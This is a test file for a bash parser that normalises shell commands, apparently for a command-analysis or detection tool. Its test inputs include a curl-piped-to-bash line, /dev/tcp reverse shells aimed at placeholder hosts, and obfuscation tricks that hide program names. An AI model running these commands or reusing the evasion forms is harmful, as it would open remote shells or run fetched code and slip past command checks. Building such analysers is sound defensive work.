// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the shell writes its variables so.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { linesOf, lowered, shown } from './shown.ts';

const sentences: [sentence: string, program: string, steps: string[]][] = [
  ['what is printed goes through a pipe', 'curl -s x.test | bash -s a', ['<"bash" "-s" "a" < <"curl" "-s" "x.test">>']],
  ['a command takes the output of another', 'a $(b c) `d`', ['<"a" <"b" "c"> <"d">>']],
  [
    'a variable has a value or a default',
    'A=1 B+=2 f "$A ${C:-d}"',
    ['$A = "1"', '$B = ($B . "2")', '<"f" ($A . " " . any($C | "d"))>'],
  ],
  [
    'quotes in a name hide nothing',
    `cu""r'l' c\\url $'\\x63url' cu$@rl`,
    ['<"curl" "curl" "curl" ("cu" . $@ . "rl")>'],
  ],
  ['an argument that nothing gives is empty in a name', 'cu$@rl x', ['<"curl" "x">']],
  ['braces make words', 'cp a{b,c} x{1..3}', ['<"cp" "ab" "ac" "x1" "x2" "x3">']],
  ['a command in braces is its words', '{curl,-s,x.test}', ['<"curl" "-s" "x.test">']],
  ['white space by name parts words', 'cat${IFS}a$IFS"b"', ['<"cat" "a" "b">']],
  ['a pattern may name a program', '/b?n/b??h -c x', ['<"bash" "-c" "x">']],
  [
    'part of a text is cut and replaced',
    'f ${a:1:3} ${a//x/y} ${a^^}',
    ['<"f" $a["substr"]("1", "3") $a["replaceAll"]("x", "y") $a["toUpperCase"]()>'],
  ],
  [
    'a heredoc is what a program reads',
    'python3 <<END\nprint("$A")\nEND',
    ['<"python3" < ("print(\\"" . $A . "\\")\\n")>'],
  ],
  ['a quoted heredoc is as it stands', "cat <<'END' > f\n$A\nEND", ['"f" << <"cat" < "$A\\n">']],
  ['a here-string is what a program reads', 'sh <<< "ls"', ['<"sh" < "ls">']],
  ['output goes to a file', 'a > f; b >> g 2>/dev/null', ['"f" << <"a">', '"g" <<< <"b">']],
  [
    'a line after a pipe is a command of its own, though it has a redirection',
    'a | b | tail -20\n\ncurl x.test 2>/dev/null || c',
    ['<"curl" "x.test">', '<"tail" "-20" < <"b" < <"a">>>', 'maybe {<"c">}'],
  ],
  ['input comes from a file', 'a < f', ['<"a" < <"<" "f">>']],
  [
    'a shell is tied to a socket',
    'bash -i >& /dev/tcp/h.test/9 0>&1',
    ['"/dev/tcp/h.test/9" << <"bash" "-i" < <"<" "/dev/tcp/h.test/9">>'],
  ],
  [
    'a descriptor stands for what it opened',
    'exec 5<>/dev/tcp/h.test/9\ncat <&5 | sh >&5',
    ['"/dev/tcp/h.test/9" << ""', '"/dev/tcp/h.test/9" << <"sh" < <"cat" < <"<" "/dev/tcp/h.test/9">>>'],
  ],
  [
    'a program that runs another is one, and so is the other',
    'sudo -u r env A=b timeout 5 a -x',
    ['<"sudo">', '<"timeout">', '<"a" "-x">'],
  ],
  ['builtins that run another are no program', 'command a; exec b', ['<"a">', '<"b">']],
  [
    'xargs gives what it reads as an argument',
    'ls | xargs -I% rm a/%',
    ['<"xargs">', '<"rm" ("a/" . <"ls">) < <"ls">>'],
  ],
  [
    'a loop takes the items of an array one by one',
    'for a in "${b[@]}"; do c "$a"; done',
    ['$a = $b[any()]', 'maybe {<"c" $a>}'],
  ],
  ['find runs a command on what it finds', 'find d -exec rm {} \\;', ['<"find" "d">', '<"rm" "d">']],
  ['a shell runs what a process prints', 'bash <(a)', ['<"bash" < <"a">>']],
  ['a process reads what a program prints', 'a | tee >(b)', ['<"b" < <"a">>', '<"tee" "/dev/fd/63" < <"a">>']],
  [
    'a function has arguments and prints',
    'f() { local x=$1; echo $x; }\nf a',
    ['def f {$x = $1; give <"echo" $x>}', '<"f" "a">'],
  ],
  ['an alias is a function', "alias l='ls -a'", ['def l {give <"eval" "ls -a">}', '<"alias" "l=ls -a">']],
  ['a trap is code', "trap 'rm x' EXIT", ['<"eval" "rm x">']],
  [
    'a loop reads lines',
    'a | while read -r l; do b $l; done',
    ['$|1 = <"a">', 'fn() {$l = $|1; give <"read" "-r" "l" < $|1>; maybe {give <"b" $l>}}()'],
  ],
  ['a loop goes over words', 'for i in a b; do c $i; done', ['$i = any("a" | "b")', 'maybe {<"c" $i>}']],
  ['what follows && is run, what follows || may be', 'a && b || c', ['<"a">', '<"b">', 'maybe {<"c">}']],
  [
    'branches may run',
    'if a; then b; elif c; then d; else e; fi',
    ['<"a">', 'maybe {<"b">} or {<"c">; maybe {<"d">}} or {maybe {<"e">}}'],
  ],
  ['cases may run', 'case $x in a) b;; *) c;; esac', ['maybe {<"b">} or {<"c">}']],
  [
    'echo and printf print what they make of it',
    "echo -e '\\x61'; printf '%s-%s' a $b",
    ['<"echo" "a">', '<"echo" ("a-" . $b)>'],
  ],
  ['a list has members', 'a=(b c); d ${a[0]} ${a[@]}', ['$a = ["b", "c"]', '<"d" $a["0"] $a>']],
];

describe('Bash', () => {
  it.each(sentences)('%s', async (_, program, steps) => {
    expect(await shown(program, 'bash')).toEqual(steps);
  });

  it('is read as far as it can be where a quote is not closed', async () => {
    const program = await lowered("curl x.test | sh\necho 'a", 'bash');
    expect(program.isWhole).toBe(false);
    expect(JSON.stringify(program.steps)).toContain('x.test');
  });

  it('names lines of the file, also of a block within it', async () => {
    expect(linesOf(await lowered('a\nb <<E\n$c\nE\nd', 'bash', 10))).toEqual(expect.arrayContaining([10, 11, 14]));
  });

  it('is lowered whatever it says, in the same way, and within its lines', async () => {
    const tokens = fc.constantFrom(
      ...'a b $x ${y:-z} $( ) ` " \' | || && ; > >> < << <<E E <( { } ( ) if then fi for in do done case esac \\ = # \n sudo xargs -I% % eval $IFS {a,b} [[ ]] !'.split(
        ' ',
      ),
      '\n',
      ' ',
    );
    await fc.assert(
      fc.asyncProperty(fc.array(tokens, { maxLength: 40 }), async (parts) => {
        const text = parts.join(parts.length % 2 ? ' ' : '');
        const program = await lowered(text, 'bash', 3);
        expect(await lowered(text, 'bash', 3)).toEqual(program);
        const last = text.split('\n').length + 2;
        for (const line of linesOf(program)) expect(line >= 3 && line <= last).toBe(true);
      }),
      { numRuns: 300 },
    );
  });

  it('is parsed no deeper than anyone writes', async () => {
    await expect(lowered(`${'$('.repeat(5_000)}a${')'.repeat(5_000)}`, 'bash')).rejects.toThrow('not parsed');
  });
});
